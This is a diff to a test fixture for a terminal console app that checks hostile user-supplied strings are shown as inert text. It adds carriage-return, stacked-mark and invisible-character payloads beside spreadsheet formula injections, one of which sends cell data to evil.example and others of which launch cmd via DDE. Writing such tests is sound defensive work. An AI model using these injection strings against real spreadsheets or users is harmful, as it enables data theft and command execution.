@@ -5,8 +5,9 @@ including the newest initial order so it is on the first screen) carries these p
 every user-controlled string: titles, usernames, emails, ``ordered_by``, tags, asset names,
 annotation bodies, failed items, layer names and ``reviewed_by``; one project name is poisoned
 too. The payloads cover Rich/Textual markup, CSI/OSC/DCS/APC escape sequences, 8-bit C1
-controls, bidi overrides, zero-width characters, a lone surrogate, spreadsheet formulas and a
-100 KB string. The console must show all of them as inert text (see
+controls, bidi overrides, zero-width characters, a lone surrogate, a bare carriage return,
+stacked combining marks, invisible fillers, piled variation selectors, spreadsheet formulas
+and a 100 KB string. The console must show all of them as inert text (see
 :mod:`artistree_tui.display`), and an exported CSV must not run the formulas.
 """
 
@@ -45,6 +46,10 @@ PAYLOADS: tuple[str, ...] = (
     '=HYPERLINK("https://evil.example/?d="&A1,"Verify") formula',
     "@SUM(1+9)*cmd|' /C calc'!A0 formula",
     "\t+cmd|' /C calc'!A0 -2+3 formula after a tab",
+    "approved\rREJECTED carriage return",
+    "zalgo" + "\u0489" * 298 + " stacked marks",
+    "fill\u115f\u1160\u3164\uffa0\u034fers invisible fillers, and selector smuggling \U0001f600"
+    + "\ufe01\U000e0105\U000e0142" * 20,
     HUGE,
 )
 # The payloads are dealt out by index * 5 modulo their number: keep that number prime to 5,
